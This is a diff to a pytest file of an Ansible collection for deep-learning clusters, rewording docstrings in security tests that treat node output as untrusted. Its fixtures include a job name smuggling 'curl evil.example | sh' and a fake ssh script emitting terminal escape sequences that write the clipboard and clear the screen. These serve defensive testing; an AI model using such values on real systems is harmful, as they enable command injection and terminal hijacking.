@@ -1,7 +1,7 @@
 # Copyright: Contributors to the deeplearning.cluster project
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 
-"""What a node answers is data: finding C1 of the security review. The nodes' Python is replaced by one that answers what a test wants."""
+"""Results from nodes are untrusted data (finding C1 of the security review). The nodes' Python prints the results that a test specifies."""
 
 from __future__ import annotations
 
@@ -66,14 +66,14 @@ def test_every_module_is_known_to_run_on_nodes_or_on_the_controller():
 
 @pytest.mark.parametrize("module", sorted(ON_NODES))
 def test_the_answer_of_every_module_on_nodes_is_filtered(module):
-    """Without an action plugin of this kind ansible-core would pass the answer on as it is."""
+    """Without an action plugin based on NodeAction, ansible-core would pass the result on unchanged."""
     tree = ast.parse((ROOT / "plugins" / "action" / f"{module}.py").read_text())
     (action,) = [line for line in tree.body if isinstance(line, ast.ClassDef) and line.name == "ActionModule"]
     assert [base.id for base in action.bases] == ["NodeAction"]
 
 
 def test_no_answer_becomes_a_variable_unless_documented(nodes):
-    """The variables of the host and of the controller are those from before, and results have documented keys alone."""
+    """The variables of the host and of the controller stay the same, and results contain only documented keys."""
     noise = random.Random(8)
     extra = {"".join(noise.choices(string.ascii_lowercase + "_", k=noise.randint(1, 30))): noise.random() for _unused in range(300)}
     answer = {
@@ -111,7 +111,7 @@ def test_no_answer_becomes_a_variable_unless_documented(nodes):
     assert set(seen["after"]) - set(seen["before"]) <= allowed, done.stdout
     assert set(seen["controller_after"]) == set(seen["controller"])
     assert "evil" not in str(seen["groups"])
-    own = {"failed", "changed", "msg", "dest", "exception", "warnings"}  # the controller adds them
+    own = {"failed", "changed", "msg", "dest", "exception", "warnings"}  # added by the controller
     for module, keys in seen["results"]:
         documented = "training_job_info" if module == "training_job_status" else module
         assert set(keys) <= set(answers.returned_values(documented)) | set(answers.COMMON) | own, module
@@ -121,7 +121,7 @@ def test_no_answer_becomes_a_variable_unless_documented(nodes):
 
 
 def test_a_host_whose_python_was_looked_for_is_not_suspected(nodes):
-    """ansible-core says in the result where it has found it, and does not look again."""
+    """ansible-core adds the discovered interpreter to the result, and does not search for it again."""
     task = {"deeplearning.cluster.training_job_info": {"directory": str(nodes.folder)}}
     known = {"ansible.builtin.assert": {"that": "ansible_facts.discovered_interpreter_python is defined"}}
     done = nodes.run([task, known], {}, is_honest=True)
@@ -130,7 +130,7 @@ def test_a_host_whose_python_was_looked_for_is_not_suspected(nodes):
 
 
 def test_a_configuration_that_makes_variables_of_facts_is_refused(nodes):
-    """With it, builtin modules on nodes could set the role's variables, which no action plugin of ours could prevent."""
+    """With it, builtin modules on nodes could set role variables, and no action plugin of this collection could prevent that."""
     done = nodes.run([{"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"]}], {"jobs": []}, inject=True)
     assert done.returncode != 0
     assert "inject_facts_as_vars = false" in done.stdout + done.stderr
@@ -184,7 +184,7 @@ def test_terminal_control_reaches_nobody(nodes):
 
 
 def test_a_silent_node_is_left_out(nodes):
-    """The others go on, long before the silent node's process ends."""
+    """The other nodes continue, long before the process of the silent node ends."""
     task = {"deeplearning.cluster.training_job_info": ON_NODES["training_job_info"], "vars": {"deeplearning_answer_timeout": 10}}
     silent = nodes.folder / "silent"
     silent.write_text("#!/bin/sh\nexec sleep 700\n")
@@ -203,7 +203,7 @@ def test_a_silent_node_is_left_out(nodes):
 
 
 def test_a_failed_connection_controls_no_terminal(nodes):
-    """ssh hands on what the other side has printed, and Ansible shows it."""
+    """ssh passes on the output of the remote side, and Ansible shows it."""
     ssh = nodes.folder / "ssh"
     ssh.write_text("#!/bin/sh\nprintf '\\033]52;c;ZXZpbA==\\007\\033[2J' >&2\nprintf '\\033[2Jx'\nexit ${STATUS:-255}\n")
     ssh.chmod(0o755)
@@ -218,7 +218,7 @@ def test_a_failed_connection_controls_no_terminal(nodes):
 
 
 def test_files_go_to_nodes_as_everything_else_does():
-    """ansible.posix.synchronize checks no host key of its own accord, and knows nothing of the way through the master."""
+    """By default, ansible.posix.synchronize neither checks host keys nor connects through the master."""
     tasks = yaml.safe_load((ROOT / "roles" / "dataset" / "tasks" / "main.yml").read_text())
     blocks = [task for each in tasks for task in each.get("block", [])]
     (copy,) = [task["ansible.posix.synchronize"] for task in blocks if "ansible.posix.synchronize" in task]
@@ -227,7 +227,7 @@ def test_files_go_to_nodes_as_everything_else_does():
 
 
 def test_the_plan_of_a_job_is_not_made_of_what_a_host_says_of_itself(nodes):
-    """Another host's name or address would bring that host's part of the job, and its secrets, here."""
+    """A host that gave the name or address of another host would receive that host's part of the job, including its secrets."""
     said = {"name": "deeplearning-worker1", "address": "10.0.0.1", "number": 1, "gpus": [], "interface": "ens5", "efa": False}
     task = {
         "deeplearning.cluster.training_job": {
@@ -244,7 +244,7 @@ def test_the_plan_of_a_job_is_not_made_of_what_a_host_says_of_itself(nodes):
 
 
 def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
-    """They become part of commands that people are told to type."""
+    """Messages tell people to run commands that contain these names."""
     job = {
         "name": "x; curl evil.example | sh",
         "state": "running",
